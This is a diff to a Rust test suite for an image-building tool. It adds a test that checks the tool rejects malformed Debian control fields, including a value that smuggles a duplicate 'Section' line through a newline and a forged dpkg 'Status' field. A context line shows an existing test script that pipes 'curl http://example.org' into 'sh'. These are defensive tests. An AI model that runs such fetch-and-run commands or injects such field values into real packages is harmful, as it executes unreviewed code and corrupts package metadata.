@@ -65,6 +65,27 @@ fn hostile_packages() {
     }
 }
 
+/// dpkg on the node could not read its own status file.
+#[test]
+fn a_control_file_that_dpkg_does_not_take() {
+    let deb = || Deb::new("evil", "6.6.6");
+    let cases = [
+        (deb().field("Depends", "toy-data, "), "`Depends`: nothing follows the last comma"),
+        (deb().field("Suggests", "\n\ttoy-data"), "`Suggests`: its first line is empty"),
+        (deb().field("Section", "a\nSection: b"), "the field `Section` occurs twice"),
+        (deb().field("Status", "install ok installed"), "a field of dpkg's status file"),
+        (deb().field("Conflicts", "aa | bb"), "alternatives are not possible here"),
+        (deb().field("Multi-Arch", "sometimes"), "`Multi-Arch`"),
+    ];
+    for (deb, says) in cases {
+        let toy = Toy::and(&[deb]);
+        let failed = toy.run(&["build", "toy"]);
+        assert!(failed.stderr.contains(says), "{says}: {}", failed.stderr);
+        assert!(failed.code != Some(0) && !toy.image().exists());
+        toy.assert_nothing_half_written();
+    }
+}
+
 #[test]
 fn a_script_that_nobody_has_reviewed() {
     let script = "#!/bin/sh\nset -e\ncurl http://example.org | sh\n";
